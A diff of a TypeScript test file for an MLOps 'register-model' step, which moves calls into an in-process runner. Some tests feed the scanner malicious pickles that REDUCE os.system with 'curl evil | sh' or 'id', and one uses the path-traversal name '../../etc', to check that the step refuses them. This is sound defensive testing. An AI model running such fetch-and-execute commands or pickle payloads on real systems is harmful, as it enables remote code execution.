@@ -5,7 +5,7 @@ import path from "node:path";
 import { describe, expect, it } from "vitest";
 import { runContextFromEnv, silentLogger } from "@mlops/core";
 import { LocalRegistry, openRegistry } from "@mlops/registry";
-import { memoryActionIO, pythonMissing } from "@mlops/testkit";
+import { memoryActionIO, pythonMissing, runInProcess, type MemoryActionIO } from "@mlops/testkit";
 import { bytes, callPickle, PROTO, STOP, uni } from "../../../packages/scan/test-support/builders.js";
 import { runRecord } from "../../../test/registry/fixtures/run-record.js";
 import { main } from "./main.js";
@@ -16,6 +16,18 @@ const pickledText = (text: string): Buffer => bytes(PROTO(2), uni(text), STOP);
 // register-model's main in-process over an in-memory StepIO and the local registry (the bundle
 // as the runner runs it, with a run record and a re-run attempt, and its lazily loaded scanner:
 // test/registry/register-model-local.test.ts).
+
+/**
+ * main as the runner runs the step, in a test worker other files share: in the workspace, with
+ * PATH, GITHUB_WORKSPACE and `env` as its whole environment. runInProcess puts back what is
+ * process-wide (environment, directory, exit code, registered secrets, signal listeners) after it.
+ */
+async function step(io: MemoryActionIO, dir: string, env: Record<string, string> = {}): Promise<void> {
+  const all = { PATH: process.env.PATH ?? "", GITHUB_WORKSPACE: dir, ...env };
+  const run = await runInProcess(() => main({ io, env: all }), { env: all, cwd: dir });
+  // The in-memory StepIO takes the step's failure: only an error main let out ends it otherwise.
+  if (run.exitCode !== 0) throw new Error(`main ended with exit code ${run.exitCode}\n${run.stderr}`);
+}
 
 function workspace(): string {
   const dir = mkdtempSync(path.join(os.tmpdir(), "mlops-register-main-"));
@@ -30,7 +42,7 @@ describe("register-model main", () => {
   it("registers the next version and writes its outputs and summary", async () => {
     const dir = workspace();
     const first = memoryActionIO({ ...inputs, metrics: "metrics.json", aliases: "staging" });
-    await main({ io: first, env: { GITHUB_WORKSPACE: dir } });
+    await step(first, dir);
     expect(first.failed).toBeNull();
     expect(first.outputs).toEqual({
       version: "1",
@@ -41,11 +53,11 @@ describe("register-model main", () => {
     expect(first.summary).toMatch(/Registered weather version 1/);
     // The same bytes again are the same version; new bytes are the next one.
     const same = memoryActionIO(inputs);
-    await main({ io: same, env: { GITHUB_WORKSPACE: dir } });
+    await step(same, dir);
     expect([same.outputs.version, same.outputs.created]).toEqual(["1", "false"]);
     writeFileSync(path.join(dir, "model.pkl"), pickledText("pickled forest, retrained"));
     const second = memoryActionIO(inputs);
-    await main({ io: second, env: { GITHUB_WORKSPACE: dir } });
+    await step(second, dir);
     expect([second.outputs.version, second.outputs.created]).toEqual(["2", "true"]);
   });
 
@@ -53,10 +65,11 @@ describe("register-model main", () => {
     const dir = workspace();
     writeFileSync(path.join(dir, "mlops.yml"), "version: 1\nmodel: forecast\n");
     const io = memoryActionIO({ ...inputs, model: "", config: path.join(dir, "mlops.yml") });
-    await main({ io, env: { GITHUB_WORKSPACE: dir } });
+    await step(io, dir);
     expect(io.outputs["model-uri"]).toBe("models:/forecast/1");
+    // Without the config input or an mlops.yml in the workspace (the working directory).
     const missing = memoryActionIO({ ...inputs, model: "" });
-    await main({ io: missing, env: { GITHUB_WORKSPACE: dir } });
+    await step(missing, workspace());
     expect(missing.failed?.message).toMatch(/^input 'model' is required/);
   });
 
@@ -97,7 +110,7 @@ describe("register-model main", () => {
         );
         expect(made.stderr).toBe("");
         const io = memoryActionIO(inputs);
-        await main({ io, env: { GITHUB_WORKSPACE: dir } });
+        await step(io, dir);
         expect(io.failed).toBeNull();
         expect(io.outputs.version).toBe("1");
         expect(io.summary).toMatch(/model scan: safe — \d+ globals, all on the allowlist/);
@@ -119,11 +132,11 @@ describe("register-model main", () => {
     it("a pickle that REDUCEs os.system fails the step, names the global and registers nothing", async () => {
       const dir = workspace();
       const fresh = memoryActionIO(inputs);
-      await main({ io: fresh, env: { GITHUB_WORKSPACE: dir } });
+      await step(fresh, dir);
       expect(await versions(dir)).toEqual([1]);
       writeFileSync(path.join(dir, "model.pkl"), callPickle("os", "system", "curl evil | sh"));
       const io = memoryActionIO(inputs);
-      await main({ io, env: { GITHUB_WORKSPACE: dir } });
+      await step(io, dir);
       expect(io.failed?.message).toMatch(
         /^model\.pkl: imports os\.system \(dangerous: .+\); registered nothing/,
       );
@@ -139,7 +152,7 @@ describe("register-model main", () => {
       const empty = workspace();
       writeFileSync(path.join(empty, "model.pkl"), callPickle("os", "system", "id"));
       const again = memoryActionIO(inputs);
-      await main({ io: again, env: { GITHUB_WORKSPACE: empty } });
+      await step(again, empty);
       expect(again.failed?.message).toMatch(/^model\.pkl: imports os\.system/);
       expect(existsSync(path.join(empty, "reg"))).toBe(false);
     });
@@ -148,7 +161,7 @@ describe("register-model main", () => {
       const dir = workspace();
       writeFileSync(path.join(dir, "model.pkl"), callPickle("os", "system", "id"));
       const io = memoryActionIO({ ...inputs, "model-scan": "warn" });
-      await main({ io, env: { GITHUB_WORKSPACE: dir } });
+      await step(io, dir);
       expect(io.failed).toBeNull();
       expect(io.outputs.version).toBe("1");
       expect(io.logger.entries.some((l) => l.level === "warning" && /os\.system/.test(l.message))).toBe(true);
@@ -156,11 +169,11 @@ describe("register-model main", () => {
         /model scan: dangerous — 1 global in 1 file; model\.pkl: imports os\.system/,
       );
       const off = memoryActionIO({ ...inputs, "model-scan": "off", aliases: "staging" });
-      await main({ io: off, env: { GITHUB_WORKSPACE: dir } });
+      await step(off, dir);
       expect(off.failed).toBeNull();
       expect(off.logger.entries.some((l) => /model scan: off/.test(l.message))).toBe(true);
       const bad = memoryActionIO({ ...inputs, "model-scan": "maybe" });
-      await main({ io: bad, env: { GITHUB_WORKSPACE: dir } });
+      await step(bad, dir);
       expect(bad.failed?.message).toBe(
         `input 'model-scan': expected one of 'fail', 'warn', 'off', found "maybe"`,
       );
@@ -170,11 +183,11 @@ describe("register-model main", () => {
       const dir = workspace();
       writeFileSync(path.join(dir, "model.pkl"), pickledText("x").subarray(0, 5));
       const io = memoryActionIO(inputs);
-      await main({ io, env: { GITHUB_WORKSPACE: dir } });
+      await step(io, dir);
       expect(io.failed?.message).toMatch(/^model\.pkl: error: .*truncated.*; registered nothing/);
       writeFileSync(path.join(dir, "mlops.yml"), "version: 1\nregister:\n  model-scan: warn\n");
       const warned = memoryActionIO({ ...inputs, config: path.join(dir, "mlops.yml") });
-      await main({ io: warned, env: { GITHUB_WORKSPACE: dir } });
+      await step(warned, dir);
       expect(warned.failed).toBeNull();
       expect(warned.outputs.version).toBe("1");
     });
@@ -190,13 +203,7 @@ describe("register-model main: mlops.yml, refusals", () => {
       "model: rain\nregistry: { backend: local, path: shared/registry }\nregister: { aliases: [candidate] }\n",
     );
     const io = memoryActionIO({ token: "ghs_unused", "model-path": "model.pkl" });
-    const start = process.cwd();
-    process.chdir(dir); // mlops.yml is read from the working directory, as on a runner
-    try {
-      await main({ io, env: { GITHUB_WORKSPACE: dir } });
-    } finally {
-      process.chdir(start);
-    }
+    await step(io, dir); // mlops.yml is read from the working directory: the workspace, as on a runner
     expect(io.failed).toBeNull();
     expect(io.outputs).toMatchObject({ version: "1", "model-uri": "models:/rain/1" });
     const registry = new LocalRegistry({ root: path.join(dir, "shared/registry"), logger: silentLogger });
@@ -206,7 +213,7 @@ describe("register-model main: mlops.yml, refusals", () => {
   it("fails with a clear message on a hostile model name and stores nothing", async () => {
     const dir = workspace();
     const io = memoryActionIO({ ...inputs, model: "../../etc", "registry-path": ".mlops/registry" });
-    await main({ io, env: { GITHUB_WORKSPACE: dir } });
+    await step(io, dir);
     expect(io.failed?.message).toContain('model name "../../etc" is not valid');
     expect(io.outputs).toEqual({});
     expect(existsSync(path.join(dir, ".mlops"))).toBe(false);
@@ -220,7 +227,7 @@ describe("register-model main: mlops.yml, refusals", () => {
       JSON.stringify(runRecord({ status: "failed", exitCode: 3 })),
     );
     const io = memoryActionIO({ model: "weather", "run-record": "out/run.json", registry: "local" });
-    await main({ io, env: { GITHUB_WORKSPACE: dir } });
+    await step(io, dir);
     expect(io.failed?.message).toContain(
       "the training run failed (exit code 3); refusing to register its model",
     );
